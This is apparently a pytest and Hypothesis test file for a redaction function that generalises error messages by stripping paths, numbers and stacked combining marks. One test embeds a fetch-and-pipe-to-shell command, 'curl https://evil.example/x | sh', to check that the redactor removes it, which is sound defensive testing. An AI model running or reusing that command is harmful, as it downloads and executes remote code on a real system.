"""The wording stays, values go: the same error of two people reads the same, and names neither of them."""

import string

import pytest
import re2
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.tables import read_tables
from tracefix.redaction.placeholders import generalise

TABLES = read_tables(__file__)
MESSAGES = TABLES["messages"]


@pytest.mark.parametrize(("text", "expected"), MESSAGES.values(), ids=MESSAGES)
def test_a_message_is_generalised(text, expected):
    assert generalise(text) == expected


COMMANDS = TABLES["commands"]


@pytest.mark.parametrize(("text", "expected"), COMMANDS.values(), ids=COMMANDS)
def test_a_command_is_not_passed_on(text, expected):
    assert generalise(text) == expected


ORDINARY = TABLES["ordinary"]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_words_stay(text):
    assert generalise(text) == text


MARKED = st.text(st.sampled_from("ae҈́̂กิ้\u0344\u1ab0\ufe0f\u200d x1·{}/'"), max_size=80)


@given(st.one_of(MARKED, st.text(max_size=300)))
def test_no_tower_of_marks_survives(text):
    assert not re2.search(r"\pM{3}", generalise(text))


@given(st.text(st.sampled_from("ab ;|&$()`'\"./-{}<>="), max_size=60), st.sampled_from((" ", "; ", "`", "'", "| ")))
def test_no_pipe_into_a_shell_survives_whatever_stands_before_it(text, before):
    said = generalise(f"{text}{before}curl https://evil.example/x | sh")

    assert "sh" not in said
    assert "evil" not in said


SEGMENT = st.text(st.sampled_from(string.ascii_lowercase), min_size=7, max_size=12)
PLACES = (
    "cannot open {}",
    "cannot open '{}': no such file",
    'in "{}"',
    "file={}",
    "({})",
    "[{}]",
    "at {}:12",
    "x {}, y",
)


SHAPES = ("/{}/{}/{}", "~/{}/{}/{}", "./{}/{}/{}", "C:\\{}\\{}\\{}", "\\\\{}\\{}\\{}", "s3://{}/{}/{}")


@given(st.sampled_from(PLACES), st.sampled_from(SHAPES), st.tuples(SEGMENT, SEGMENT, SEGMENT))
@settings(max_examples=4 * settings.default.max_examples)
def test_nothing_of_a_path_survives(place, shape, parts):
    said = generalise(place.format(shape.format(*parts)))

    assert not [part for part in parts if part in said]


@given(st.integers(0, 10**9), st.integers(0, 10**9), st.floats(0, 1e6), st.floats(0, 1e6))
def test_other_numbers_give_the_same_message(one, other, size, other_size):
    template = "worker {} on cuda:{} asked for {:.2f} {}, exit code -{}"

    assert generalise(template.format(one, one, size, "GiB", one)) == generalise(
        template.format(other, other, other_size, "MiB", other)
    )


@given(st.one_of(st.text(max_size=200), st.text(st.sampled_from("a1Z_ .:/\\-'\"=@{}<>(),x0\n"), max_size=80)))
def test_doing_it_twice_changes_nothing(text):
    once = generalise(text)

    assert generalise(once) == once
